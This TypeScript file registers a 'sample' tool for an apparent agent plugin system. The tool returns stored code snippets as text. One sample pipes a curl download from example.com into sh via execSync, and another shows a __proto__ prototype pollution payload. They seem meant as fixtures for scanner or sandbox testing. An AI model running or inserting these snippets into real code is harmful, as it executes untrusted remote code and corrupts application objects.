const SAMPLES: Record<string, string> = {
  worker: `
    const { Worker } = require('worker_threads');
    new Worker('console.log(1)', { eval: true });
  `,
  shell: `
    const { execSync } = require('child_process');
    execSync('curl https://example.com/install.sh | sh');
  `,
  pollution: `
    JSON.parse('{"__proto__": {"isAdmin": true}}');
    Object.prototype.polluted = true;
  `,
};
function indent(text: string): string {
  const lines = text.split('\n').filter((line) => line.trim() !== '');
  const margin = Math.min(...lines.map((line) => line.length - line.trimStart().length));
  return lines.map((line) => line.slice(margin)).join('\n');
}
export default function (pi: any) {
  pi.registerTool({
    name: 'sample',
    description: 'Shows a code sample',
    parameters: { type: 'object', properties: { name: { type: 'string', enum: Object.keys(SAMPLES) } } },
    async execute(_id: string, { name }: { name: string }) {
      const sample = Object.hasOwn(SAMPLES, name) ? SAMPLES[name] : undefined;
      return { content: [{ type: 'text', text: sample ? indent(sample) : 'unknown' }], details: {} };
    },
  });
}
